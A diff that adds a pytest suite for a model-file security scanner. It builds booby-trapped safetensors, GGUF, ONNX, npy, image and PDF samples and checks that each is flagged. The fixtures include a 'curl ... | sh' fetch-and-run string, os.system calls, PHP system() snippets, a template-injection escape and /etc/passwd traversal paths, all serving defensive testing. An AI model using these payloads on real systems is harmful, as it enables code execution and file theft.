@@ -1,0 +1,318 @@
+"""Every trick on a header, a gap, a tail or an instruction is flagged by the rule that names it."""
+
+import base64
+import struct
+import zlib
+
+import pytest
+
+from budmodel_scanner.content import Place
+from budmodel_scanner.formats import npy
+from budmodel_scanner.verdict import Verdict
+from tests.unit.budmodel_scanner import format_samples as sample
+from tests.unit.budmodel_scanner.format_examination import examined, rules, verdict
+
+F32 = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
+ENCODED = base64.b64encode(sample.PICKLE).decode()
+
+
+@pytest.mark.parametrize(
+    ("data", "rule"),
+    [
+        (sample.safetensors({"w": F32, "v": F32}, bytes(4)), "safetensors.overlap"),
+        (sample.safetensors({"w": {**F32, "data_offsets": [4, 8]}}, bytes(8)), "safetensors.gap"),
+        (sample.safetensors({"w": F32}, bytes(4) + b"tail"), "safetensors.trailing-bytes"),
+        (sample.safetensors({"w": F32}, bytes(3)), "safetensors.truncated"),
+        (sample.safetensors({"w": {**F32, "shape": [2]}}, bytes(4)), "safetensors.size"),
+        (sample.safetensors({"w": {**F32, "shape": [1 << 40, 1 << 40]}}, bytes(4)), "safetensors.size"),
+        (sample.safetensors({"w": {**F32, "dtype": "PY"}}, bytes(4)), "safetensors.dtype"),
+        (sample.safetensors({"w": {**F32, "data_offsets": [-4, 0]}}, bytes(4)), "safetensors.tensor"),
+        (sample.safetensors({"w": {**F32, "shape": [True]}}, bytes(4)), "safetensors.tensor"),
+        (sample.safetensors({"w": {**F32, "code": "x"}}, bytes(4)), "safetensors.tensor"),
+        (sample.safetensors({"w\0": F32}, bytes(4)), "safetensors.name"),
+        (sample.safetensors({"__metadata__": {"a": 1}}, b""), "safetensors.metadata"),
+        (sample.safetensors({"__metadata__": []}, b""), "safetensors.metadata"),
+        (sample.safetensors({"__metadata__": {"a": ENCODED}}, b""), "safetensors.payload-in-metadata"),
+        (sample.safetensors({"__metadata__": {"a": "__import__('os')"}}, b""), "safetensors.payload-in-metadata"),
+        (sample.safetensors(b'{"__metadata__":{"a":"b"},"__metadata__":{}}', b""), "safetensors.duplicate-key"),
+        (sample.safetensors(b'{"a":NaN}', b""), "safetensors.header"),
+        (sample.safetensors(b"{}" + b"\n\t", b""), "safetensors.padding"),
+        ((1 << 63).to_bytes(8, "little") + b"{}", "safetensors.header-too-large"),
+        ((4096).to_bytes(8, "little") + b"{}", "safetensors.truncated"),
+    ],
+)
+def test_safetensors(data: bytes, rule: str) -> None:
+    assert rule in rules(data, "model.safetensors")
+    assert verdict(data, "model.safetensors") is Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("data", "rule", "expected"),
+    [
+        (sample.gguf(counts=(1 << 60, 0)), "gguf.overflow", Verdict.MALICIOUS),
+        (sample.gguf(counts=(0, 1 << 60)), "gguf.overflow", Verdict.MALICIOUS),
+        (sample.gguf(counts=(0, 3000)), "gguf.counts", Verdict.SUSPICIOUS),
+        (sample.gguf(version=9), "gguf.version", Verdict.SUSPICIOUS),
+        (sample.gguf([sample.gguf_entry("general.alignment", 0)]), "gguf.alignment", Verdict.SUSPICIOUS),
+        (sample.gguf([sample.gguf_entry("a", 1), sample.gguf_entry("a", 1)]), "gguf.duplicate-name", Verdict.SUSPICIOUS),
+        (sample.gguf([sample.gguf_entry("note", ENCODED)]), "gguf.payload-in-metadata", Verdict.SUSPICIOUS),
+        (sample.gguf([sample.gguf_text("k") + struct.pack("<I", 99)]), "gguf.value-type", Verdict.SUSPICIOUS),
+        (sample.gguf([sample.gguf_text("k") + struct.pack("<IIQ", 9, 9, 1)]), "gguf.value-type", Verdict.SUSPICIOUS),
+        (sample.gguf([sample.gguf_text("k") + struct.pack("<IQ", 8, 1 << 63)]), "gguf.overflow", Verdict.MALICIOUS),
+        (sample.gguf(tensors=[sample.gguf_tensor(shape=(1 << 32, 1 << 32))]), "gguf.overflow", Verdict.MALICIOUS),
+        (sample.gguf(tensors=[sample.gguf_tensor(shape=(1,) * 9)]), "gguf.dimensions", Verdict.SUSPICIOUS),
+        (sample.gguf(tensors=[sample.gguf_tensor(kind=60_000)]), "gguf.tensor-type", Verdict.SUSPICIOUS),
+        (sample.gguf(tensors=[sample.gguf_tensor()], data=bytes(8)), "gguf.truncated", Verdict.SUSPICIOUS),
+        (
+            sample.gguf(tensors=[sample.gguf_tensor("a"), sample.gguf_tensor("b")], data=bytes(32)),
+            "gguf.overlap",
+            Verdict.SUSPICIOUS,
+        ),
+        (sample.gguf(tensors=[sample.gguf_tensor(offset=64)], data=bytes(96)), "gguf.gap", Verdict.SUSPICIOUS),
+        (sample.plain_gguf() + sample.PICKLE, "gguf.trailing-bytes", Verdict.SUSPICIOUS),
+    ],
+)
+def test_gguf(data: bytes, rule: str, expected: Verdict) -> None:
+    assert rule in rules(data, "model.gguf")
+    assert verdict(data, "model.gguf") is expected
+
+
+def test_a_template_in_gguf_is_examined_as_one() -> None:
+    attack = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
+
+    for key in ("tokenizer.chat_template", "tokenizer.chat_template.tool_use"):
+        assert verdict(sample.gguf([sample.gguf_entry(key, attack)]), "model.gguf").rank >= Verdict.SUSPICIOUS.rank
+
+
+@pytest.mark.parametrize(
+    ("data", "rule"),
+    [
+        (sample.npy(header=b"__import__('os').system('id')"), "npy.payload-in-header"),
+        (sample.npy(header=b"{'descr': '<f4', 'shape': (2, 2)}"), "npy.header"),
+        (sample.npy(shape="(3, 2)"), "npy.truncated"),
+        (sample.npy(shape="(-1,)"), "npy.header"),
+        (sample.npy(shape="(2**40, 2)"), "npy.header"),
+        (sample.npy(shape="(1099511627776, 1099511627776)"), "npy.overflow"),
+        (sample.npy(data=bytes(16) + sample.PICKLE), "npy.trailing-bytes"),
+        (sample.npy(descr="'<q99z'"), "npy.type"),
+        (b"\x93NUMPY\x09\x00" + sample.npy()[8:], "npy.version"),
+    ],
+)
+def test_npy(data: bytes, rule: str) -> None:
+    assert rule in rules(data, "a.npy")
+    assert verdict(data, "a.npy").rank >= Verdict.SUSPICIOUS.rank
+
+
+@pytest.mark.parametrize("descr", ["'|O'", "[('a', '<f4'), ('b', '|O')]", "[('a', [('b', ('|O', (2,)))])]"])
+def test_objects_in_an_array_are_read_as_the_pickle_that_they_are(descr: str) -> None:
+    assert verdict(sample.npy(descr, "(1,)", sample.PICKLE), "a.npy") is Verdict.MALICIOUS
+
+
+def external(location: bytes) -> bytes:
+    entry = proto_entry(b"location", location)
+    return sample.onnx(initializer=sample.proto((1, 2), (2, 1), (8, b"w"), (13, entry), (14, 1)))
+
+
+def proto_entry(key: bytes, value: bytes) -> bytes:
+    return sample.proto((1, key), (2, value))
+
+
+@pytest.mark.parametrize(
+    "location",
+    [
+        b"../../etc/passwd",
+        b"/etc/passwd",
+        b"C:\\Windows\\x",
+        b"file:///etc/passwd",
+        b"https://x.example/w",
+        b"a/../../b",
+        b"\\\\h\\s",
+    ],
+)
+def test_external_data_of_onnx_may_not_leave_the_repository(location: bytes) -> None:
+    assert verdict(external(location), "m.onnx") is Verdict.MALICIOUS
+    assert verdict(external(b"weights/m.onnx_data"), "m.onnx") is Verdict.SAFE
+
+
+@pytest.mark.parametrize(
+    ("data", "rule"),
+    [
+        (sample.onnx(domain=b"evil.ops"), "onnx.custom-domain"),
+        (sample.onnx(operator=b"PyOp", domain=b"ai.onnx.contrib"), "onnx.python-operator"),
+        (sample.onnx(model=sample.proto((99, sample.PICKLE))), "onnx.unknown-field"),
+        (sample.onnx(model=b"\xff\xff\xff"), "onnx.truncated"),
+        (sample.onnx(model=sample.PICKLE), "onnx.protobuf"),
+        (sample.onnx(model=sample.proto((14, proto_entry(b"k", ENCODED.encode())))), "onnx.payload-in-metadata"),
+        (sample.onnx(initializer=sample.proto((1, 9), (2, 1), (9, bytes(8)))), "onnx.size"),
+        (sample.onnx(initializer=sample.proto((1, (1 << 64) - 1), (2, 1), (9, bytes(8)))), "onnx.overflow"),
+        (
+            sample.onnx(initializer=sample.proto((1, len(sample.PICKLE)), (2, 2), (9, sample.PICKLE))),
+            "onnx.payload-in-tensor",
+        ),
+        (sample.proto((1, 8), (2, b"x"), (8, sample.proto((2, 17)))), "onnx.no-graph"),
+    ],
+)
+def test_onnx(data: bytes, rule: str) -> None:
+    assert rule in rules(data, "m.onnx")
+    assert verdict(data, "m.onnx").rank >= Verdict.SUSPICIOUS.rank
+
+
+@pytest.mark.parametrize("operator", [b"ReadFile", b"WriteFile", b"PyFunc", b"EagerPyFunc", b"MatchingFiles"])
+def test_operators_that_reach_files_or_python_are_malicious(operator: bytes) -> None:
+    graph = sample.proto((1, sample.proto((1, b"a"), (2, b"Const"))), (1, sample.proto((1, b"n"), (2, operator))))
+
+    assert verdict(sample.saved_model(b"MatMul", operator), "saved_model.pb") is Verdict.MALICIOUS
+    assert verdict(graph, "frozen.pb") is Verdict.MALICIOUS
+    assert verdict(graph, "disguise.bin") is Verdict.MALICIOUS
+    assert verdict(sample.tflite(b"Flex" + operator), "m.tflite") is Verdict.MALICIOUS
+
+
+def test_operators_inside_functions_count_and_calls_of_functions_do_not() -> None:
+    def library(operator: bytes) -> bytes:
+        function = sample.proto((1, sample.proto((1, b"__inference_f_1"))), (3, sample.proto((1, b"n"), (2, operator))))
+        graph = sample.proto((1, sample.proto((1, b"c"), (2, b"__inference_f_1"))), (2, sample.proto((1, function))))
+        return sample.proto((1, 1), (2, sample.proto((2, graph))))
+
+    assert verdict(library(b"MatMul"), "saved_model.pb") is Verdict.SAFE
+    assert verdict(library(b"WriteFile"), "saved_model.pb") is Verdict.MALICIOUS
+    assert rules(library(b"HomeMade"), "saved_model.pb") == {"tensorflow.unknown-operator"}
+
+
+def test_the_list_of_operators_in_a_graph_does_not_make_them_known() -> None:
+    listed = sample.proto((2, sample.proto((1, sample.proto((1, b"HomeMade"))))))
+    graph = sample.proto((1, sample.proto((1, b"n"), (2, b"HomeMade"))))
+    data = sample.proto((1, 1), (2, sample.proto((1, listed), (2, graph))))
+
+    assert rules(data, "saved_model.pb") == {"tensorflow.unknown-operator"}
+
+
+def test_assets_and_trailing_bytes_of_a_saved_model() -> None:
+    assert rules(sample.saved_model(b"Const", assets=[b"../../x"]), "saved_model.pb") == {"tensorflow.asset-path"}
+    assert verdict(sample.saved_model(b"Const") + sample.PICKLE, "saved_model.pb") is Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("data", "name", "rule"),
+    [
+        (sample.tflite(b"EvilLoader"), "m.tflite", "tflite.custom-operator"),
+        (sample.tflite(data=b"\x7fELF\2\1\1" + bytes(20)), "m.tflite", "tflite.payload-in-buffer"),
+        (sample.tflite(version=4), "m.tflite", "tflite.version"),
+        (sample.tflite() + sample.PICKLE, "m.tflite", "tflite.trailing-bytes"),
+        (sample.tflite()[:-8], "m.tflite", "tflite.truncated"),
+        (sample.sentencepiece(sample.proto((77, sample.PICKLE))), "t.model", "sentencepiece.unknown-field"),
+        (
+            sample.sentencepiece(sample.proto((2, sample.proto((1, b"$(curl http://x | sh)"))))),
+            "t.model",
+            "sentencepiece.payload-in-metadata",
+        ),
+        (sample.sentencepiece(b"\xff"), "t.model", "sentencepiece.truncated"),
+        (sample.coreml(555), "m.mlmodel", "coreml.custom-code"),
+        (sample.coreml(layer=500), "m.mlmodel", "coreml.custom-code"),
+        (sample.coreml(note=b"eval(x)"), "m.mlmodel", "coreml.payload-in-metadata"),
+        (sample.coreml_blobs() + b"x", "weight.bin", "coreml.trailing-bytes"),
+        (sample.msgpack(extension=42), "f.msgpack", "msgpack.extension"),
+        (sample.msgpack(tail=sample.PICKLE), "f.msgpack", "msgpack.trailing-bytes"),
+        (b"\xdf\xff\xff\xff\xff", "f.msgpack", "msgpack.counts"),
+        (b"\x81" * 300 + bytes(300), "f.msgpack", "msgpack.depth"),
+        (sample.ubjson(tail=sample.PICKLE), "b.ubj", "ubjson.trailing-bytes"),
+        (sample.ubjson(note=b"os.system('id')"), "b.ubj", "ubjson.payload-in-metadata"),
+        (b"{i\x01a" + b"[" * 300, "b.ubj", "ubjson.depth"),
+        (b"{i\x01a[$U#l\x7f\xff\xff\xff", "b.ubj", "ubjson.truncated"),
+        ((1 << 60).to_bytes(8, "little") + bytes(20), "events.out.tfevents.1.host", "event-log.checksum"),
+        (sample.tfrecord(sample.PICKLE), "a.tfrecord", "event-log.payload"),
+        (sample.tfrecord(sample.proto((1, b"x")))[:-1] + b"!", "a.tfrecord", "event-log.checksum"),
+        (sample.tfrecord(b"") + sample.PICKLE, "a.tfrecord", "event-log.checksum"),
+        (b"x" + sample.checkpoint_index(), "v.index", ""),
+        (sample.checkpoint_index()[:-48] + bytes(9) + sample.checkpoint_index()[-48:], "v.index", "checkpoint.gap"),
+        (sample.checkpoint_index() + b"x", "v.index", "checkpoint.footer"),
+        (sample.parquet() + sample.PICKLE, "a.parquet", "parquet.footer"),
+        (sample.parquet(b"import os; os.system('id') # long enough"), "a.parquet", "parquet.payload-in-metadata"),
+        (sample.arrow_stream() + sample.PICKLE, "a.arrow", "arrow.trailing-bytes"),
+        (sample.arrow_stream()[:-20], "a.arrow", "arrow.truncated"),
+    ],
+)
+def test_other_model_and_data_formats(data: bytes, name: str, rule: str) -> None:
+    assert rule in (rules(data, name) or {""})
+    assert not rule or verdict(data, name).rank >= Verdict.SUSPICIOUS.rank
+
+
+@pytest.mark.parametrize(
+    ("data", "name", "rule"),
+    [
+        (sample.png(tail=sample.PICKLE), "a.png", "png.trailing-bytes"),
+        (sample.png(sample.png_chunk(b"tEXt", b"a\0<?php x")), "a.png", "png.payload-in-metadata"),
+        (sample.png(sample.png_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"<script>"))), "a.png", "png.payload-in-metadata"),
+        (sample.png(sample.png_chunk(b"pkLe", sample.PICKLE)), "a.png", "png.payload-in-metadata"),
+        (sample.png(sample.png_chunk(b"EVIL", b"")), "a.png", "png.chunk"),
+        (sample.png().replace(b"\x08\x02\x00\x00\x00", b"\x08\x06\x00\x00\x00"), "a.png", "png.checksum"),
+        (sample.png()[:-12], "a.png", "png.truncated"),
+        (sample.jpeg(tail=b"PK\x03\x04\x14\0"), "a.jpg", "jpeg.trailing-bytes"),
+        (sample.jpeg(b"<?php system($x);"), "a.jpg", "jpeg.payload-in-metadata"),
+        (sample.jpeg()[:-2], "a.jpg", "jpeg.truncated"),
+        (sample.gif(b"tail"), "a.gif", "gif.trailing-bytes"),
+        (sample.wav(tail=b"MZ" + bytes(80)), "a.wav", "riff.trailing-bytes"),
+        (sample.wav(sample.riff_chunk(b"evil", sample.PICKLE)), "a.wav", "riff.payload-in-metadata"),
+        (sample.mp4(sample.PICKLE), "a.mp4", "mp4.trailing-bytes"),
+        (sample.mp4(sample.box(b"free", sample.PICKLE)), "a.mp4", "mp4.payload-in-metadata"),
+        (sample.ogg(b"tail"), "a.ogg", "ogg.trailing-bytes"),
+        (sample.flac(b"\x7fELF\2\1\1!"), "a.flac", "flac.filled-padding"),
+        (sample.flac() + b"PK\5\6" + bytes(18), "a.flac", "flac.trailing-bytes"),
+        (sample.mp3(b"#!/bin/sh\nid\n"), "a.mp3", "mp3.trailing-bytes"),
+        (sample.bmp(b"tail" * 9), "a.bmp", "bmp.size"),
+        (sample.ico(b"tail"), "a.ico", "ico.unused-bytes"),
+        (sample.tiff(sample.PICKLE), "a.tiff", "tiff.trailing-bytes"),
+        (sample.font(sample.PICKLE), "a.ttf", "font.trailing-bytes"),
+        (sample.pdf(tail=sample.PICKLE), "a.pdf", "pdf.trailing-bytes"),
+        (b"junk" + sample.pdf(), "a.pdf", "pdf.leading-bytes"),
+        (sample.pdf(b"<< /S /JavaScript /JS (x) >>"), "a.pdf", "pdf.action"),
+        (sample.pdf(b"<< /S /J#61vaScript >>"), "a.pdf", "pdf.action"),
+        (sample.pdf(sample.pdf_stream(b"/Type /ObjStm", b"<< /S /Launch >>")), "a.pdf", "pdf.action"),
+        (sample.pdf(sample.pdf_stream(b"/Type /O#62jStm", b"<< /S /Launch >>")), "a.pdf", "pdf.action"),
+        (sample.pdf(sample.pdf_stream(b"", b"\x7fELF\2\1\1")), "a.pdf", "pdf.payload-in-stream"),
+        (sample.pdf().replace(b"%%EOF", b""), "a.pdf", "pdf.truncated"),
+    ],
+)
+def test_media(data: bytes, name: str, rule: str) -> None:
+    assert rule in rules(data, name)
+    assert verdict(data, name) is Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x7fELF\2\1\1" + bytes(60),
+        b"MZ\x90\0" + bytes(60),
+        b"\xcf\xfa\xed\xfe" + bytes(30),
+        b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(30),
+        b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(30),
+        b"dex\n035\0" + bytes(30),
+        b"\0asm\1\0\0\0",
+        b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20),
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
+        b"L\0\0\0\1\x14\2\0" + bytes(60),
+        b"!<arch>\n",
+        b"ptrt" + bytes(60),
+    ],
+)
+def test_programs_are_suspicious_under_any_name(data: bytes) -> None:
+    for name in ("model.safetensors", "pytorch_model.bin", "lib.so"):
+        assert [finding.rule.partition(".")[0] for finding in examined(data, name)] == ["executable"]
+        assert verdict(data, name) is Verdict.SUSPICIOUS
+
+
+def test_formats_that_nobody_can_read_here_are_unscanned() -> None:
+    assert verdict(b"lmgg" + bytes(60), "ggml-base.bin") is Verdict.UNSCANNED
+    assert verdict(struct.pack("<I", 12) + b"ET12" + struct.pack("<HHi", 4, 4, 4), "m.pte") is Verdict.UNSCANNED
+
+
+def test_a_member_with_fewer_bytes_than_its_container_claims_is_malformed_and_no_accident() -> None:
+    class Short:
+        """Claims more than it has, as a member whose header lies."""
+
+        size = 224
+
+        def read(self, offset: int, length: int) -> bytes:
+            return b"\x93NUMPY"[offset : offset + length]
+
+    found = list(npy.examine(Short(), Place("x.npy"), lambda *_: iter(())))
+    assert [finding.rule for finding in found] == ["npy.truncated"]
